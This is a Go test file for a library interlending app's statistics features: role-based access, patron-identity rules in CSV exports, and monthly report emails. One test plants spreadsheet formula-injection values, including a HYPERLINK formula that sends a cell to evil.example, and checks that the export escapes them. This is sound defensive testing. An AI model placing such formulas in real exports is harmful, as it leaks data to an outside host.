package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"interlend/internal/app"
	"interlend/internal/ill"
	"interlend/internal/mail"
	"interlend/internal/stats"
	"interlend/internal/stats/statsfixture"
	"interlend/internal/store"
)

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Fatalf("no byte order mark: %.40q", b)
	}
	rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Who sees what: the statistics permission for the figures, the identity
// permission (and asking) for patrons in exports, the consortium role for
// the consortium view; bad periods are refused.
func TestStatsAccess(t *testing.T) {
	t.Parallel()
	w := fixtureWorld(t, store.SQLite)
	ctx := context.Background()
	w.Agency(t, "US-OTHER", "Other Library")
	as := func(email string, gs ...ill.Grant) ill.Actor {
		return app.ActorFor(w.User(t, email, gs...), gs[0].Agency)
	}
	student := as("student@fix.example", ill.Grant{Agency: statsfixture.Agency, Role: ill.RoleStudent})
	reader := as("reader@fix.example", ill.Grant{Agency: statsfixture.Agency, Role: ill.RoleReadOnly})
	borrower := as("borrower@fix.example", ill.Grant{Agency: statsfixture.Agency, Role: ill.RoleBorrowing})
	admin := as("admin@consortium.example", ill.Grant{Agency: statsfixture.Agency, Role: ill.RoleConsortiumAdmin}, ill.Grant{Agency: "US-OTHER", Role: ill.RoleConsortiumAdmin})
	mgr := fixtureManager(t, w)

	if _, err := w.App.StatsDashboard(ctx, student, march); !ill.Is(err, ill.Forbidden) {
		t.Errorf("student: %v, want Forbidden", err)
	}
	if _, err := w.App.StatsCollection(ctx, student, march); !ill.Is(err, ill.Forbidden) {
		t.Errorf("student's collection report: %v, want Forbidden", err)
	}
	if _, err := w.App.StatsSurvey(ctx, student, statsfixture.Agency, 2025); !ill.Is(err, ill.Forbidden) {
		t.Errorf("student's survey: %v, want Forbidden", err)
	}
	if d, err := w.App.StatsDashboard(ctx, reader, march); err != nil || d.Current.Borrowing.Received != 30 {
		t.Errorf("read-only staff: %v", err)
	}
	other := march
	other.Agency = "US-OTHER"
	if _, err := w.App.StatsDashboard(ctx, mgr, other); !ill.Is(err, ill.Forbidden) {
		t.Errorf("another library's figures: %v, want Forbidden", err)
	}

	// The consortium view: every library the administrator holds the role
	// in, with a line each; a manager has none.
	cq := march
	cq.Consortium = true
	d, err := w.App.StatsDashboard(ctx, admin, cq)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Agencies) != 2 || len(d.PerAgency) != 2 || d.PerAgency[0].Agency != statsfixture.Agency || d.PerAgency[0].Borrowing.Received != 30 ||
		d.PerAgency[1].Borrowing.Received != 0 || d.Current.Borrowing.Received != 30 {
		t.Errorf("consortium view: %v, %d lines", d.Agencies, len(d.PerAgency))
	}
	if _, err := w.App.StatsDashboard(ctx, mgr, cq); !ill.Is(err, ill.Forbidden) {
		t.Errorf("consortium view of a manager: %v, want Forbidden", err)
	}

	// Bad periods change nothing and say why.
	for name, q := range map[string]app.StatsQuery{
		"backwards":  {Agency: statsfixture.Agency, From: march.To, To: march.From},
		"too long":   {Agency: statsfixture.Agency, From: march.From.AddDate(-11, 0, 0), To: march.To},
		"bad preset": {Agency: statsfixture.Agency, Preset: "decade"},
	} {
		if _, err := w.App.StatsDashboard(ctx, mgr, q); !ill.Is(err, ill.Invalid) {
			t.Errorf("%s: %v, want Invalid", name, err)
		}
	}
	if _, err := w.App.StatsSurvey(ctx, mgr, statsfixture.Agency, 1066); !ill.Is(err, ill.Invalid) {
		t.Errorf("survey of 1066: %v, want Invalid", err)
	}

	// Exports: without the identity right, asking is refused before a
	// byte is written, and not asking shows no patron anywhere.
	var buf bytes.Buffer
	if err := w.App.ExportStatsRequests(ctx, borrower, march, true, &buf, nil); !ill.Is(err, ill.Forbidden) || buf.Len() > 0 {
		t.Errorf("identity without the right: %v, %d bytes written", err, buf.Len())
	}
	if err := w.App.ExportStatsEvents(ctx, borrower, march, true, &buf, nil); !ill.Is(err, ill.Forbidden) || buf.Len() > 0 {
		t.Errorf("event data without the right: %v, %d bytes written", err, buf.Len())
	}
	for _, who := range []ill.Actor{borrower, mgr} {
		buf.Reset()
		if err := w.App.ExportStatsRequests(ctx, who, march, false, &buf, nil); err != nil {
			t.Fatal(err)
		}
		rows := readCSV(t, buf.Bytes())
		if len(rows) != 51 { // 30 borrowing and 20 lending requests submitted in March, and the header
			t.Errorf("export rows: %d, want 51", len(rows))
		}
		for _, secret := range []string{"Reader of", "P-History", "P-Biology", "patron_name"} {
			if bytes.Contains(buf.Bytes(), []byte(secret)) {
				t.Errorf("the export without identity shows %q", secret)
			}
		}
	}
	buf.Reset()
	if err := w.App.ExportStatsRequests(ctx, mgr, march, true, &buf, nil); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	head := rows[0]
	if head[len(head)-2] != "patron_name" || !strings.Contains(buf.String(), "Reader of History") {
		t.Errorf("the export with identity lacks the patrons: %v", head)
	}
	// A1's row: its stages in calendar and business hours.
	col := map[string]int{}
	for i, c := range head {
		col[c] = i
	}
	for _, r := range rows[1:] {
		if r[col["request"]] == "" || r[col["side"]] != "borrowing" || r[col["submitted"]] != "2026-03-02T10:00:00Z" || r[col["sent"]] != "2026-03-02T11:00:00Z" {
			continue
		}
		if r[col["submitted_to_available_hours"]] != "97.00" || r[col["submitted_to_available_business_hours"]] != "33.00" || r[col["patron_barcode"]] != "P-History" {
			t.Errorf("A1 in the export: %v", r)
		}
	}

	// The raw event export: the same events, data only with identity.
	buf.Reset()
	if err := w.App.ExportStatsEvents(ctx, borrower, march, false, &buf, nil); err != nil {
		t.Fatal(err)
	}
	ev := readCSV(t, buf.Bytes())
	if len(ev) < 200 || ev[0][len(ev[0])-1] != "to_state" {
		t.Errorf("event export: %d rows, header %v", len(ev), ev[0])
	}
	buf.Reset()
	if err := w.App.ExportStatsEvents(ctx, mgr, march, true, &buf, nil); err != nil {
		t.Fatal(err)
	}
	if ev2 := readCSV(t, buf.Bytes()); len(ev2) != len(ev) || ev2[0][len(ev2[0])-1] != "data" {
		t.Errorf("event export with data: %d rows, header %v", len(ev2), ev2[0])
	}
}

// Text people typed into citations comes out of the export as text, never
// as a formula.
func TestStatsExportIsSpreadsheetSafe(t *testing.T) {
	t.Parallel()
	w := fixtureWorld(t, store.SQLite)
	ctx := context.Background()
	evil := ill.Citation{Title: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Author: "+SUM(1,2)", PubDate: "-2+3", Publisher: "@cmd"}
	j := stats.Journey{Side: ill.Borrowing, Service: ill.Loan, Submitted: time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC), Category: "@staff"}
	if _, err := w.App.AddStatsHistory(ctx, statsfixture.Agency, []app.HistoryRequest{{Journey: j, Citation: evil}}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.App.RefreshStats(ctx); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := w.App.ExportStatsRequests(ctx, fixtureManager(t, w), march, false, &buf, nil); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	found := false
	for _, r := range rows[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("a cell starts with a formula character: %q", cell)
			}
		}
		if strings.Contains(strings.Join(r, "|"), "HYPERLINK") {
			found = true
			line := strings.Join(r, "|")
			for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"Open")`, "'+SUM(1,2)", "'-2+3", "'@staff"} {
				if !strings.Contains(line, want) {
					t.Errorf("row lacks %q: %s", want, line)
				}
			}
		}
	}
	if !found {
		t.Error("the request with the formula title is not in the export")
	}
}

// The monthly report goes to the managers (and the extra recipients) once
// a month; the schedules exist after start-up.
func TestStatsMonthlyReport(t *testing.T) {
	t.Parallel()
	w := fixtureWorld(t, store.SQLite)
	ctx := context.Background()
	mgr := fixtureManager(t, w)
	saveSetting(t, w, mgr, "stats", map[string]string{"reportRecipients": "director@fix.example", "sameInstitution": "US-L3"})
	w.User(t, "lender@fix.example", ill.Grant{Agency: statsfixture.Agency, Role: ill.RoleLending}) // not a manager: no report
	n, err := w.App.SendMonthlyReports(ctx)
	if err != nil || n != 2 {
		t.Fatalf("queued %d reports (%v), want 2", n, err)
	}
	if n, err = w.App.SendMonthlyReports(ctx); err != nil || n != 2 {
		t.Fatalf("again: %d (%v)", n, err)
	}
	var logs []store.MailLog
	var jobs []store.Job
	if err := w.App.DB.Read(ctx, func(tx *store.Tx) (err error) {
		if logs, err = tx.Agency().MailLogs(statsfixture.Agency, store.MailFilter{}); err != nil {
			return err
		}
		jobs, err = tx.System().ListJobs(store.JobFilter{AllAgencies: true, Kind: app.KindMailSend})
		return err
	}); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, l := range logs {
		got[l.Recipient] = l.Subject
	}
	if len(logs) != 2 || got["manager@fix.example"] == "" || got["director@fix.example"] == "" {
		t.Fatalf("mail log: %+v", logs)
	}
	if s := got["manager@fix.example"]; !strings.Contains(s, "March 2026") || !strings.Contains(s, "Fixture Library") {
		t.Errorf("subject: %q", s)
	}
	var body struct{ Text string }
	if len(jobs) != 2 || json.Unmarshal(jobs[0].Payload, &body) != nil {
		t.Fatalf("mail jobs: %d", len(jobs))
	}
	for _, want := range []string{"Borrowing requests: 30 (the month before: 4)", "Borrowing fill rate: 76.9%", "/stats?period=lastmonth"} {
		if !strings.Contains(body.Text, want) {
			t.Errorf("the report lacks %q:\n%s", want, body.Text)
		}
	}
	if _, ok := mail.Lookup(app.MonthlyReportNotice); !ok {
		t.Error("the monthly report notice is not registered")
	}

	if err := w.App.EnsureSchedules(ctx); err != nil {
		t.Fatal(err)
	}
	for _, kind := range []string{app.KindStatsRefresh, app.KindStatsMonthlyReport} {
		var js []store.Job
		if err := w.App.DB.Read(ctx, func(tx *store.Tx) (err error) {
			js, err = tx.System().ListJobs(store.JobFilter{AllAgencies: true, Kind: kind})
			return err
		}); err != nil {
			t.Fatal(err)
		}
		if len(js) != 1 {
			t.Errorf("%d %s jobs scheduled, want 1", len(js), kind)
		}
	}
	// The refresh job runs and schedules the next one.
	if _, err := w.App.Jobs.RunDue(ctx, app.KindStatsRefresh); err != nil {
		t.Fatal(err)
	}
}
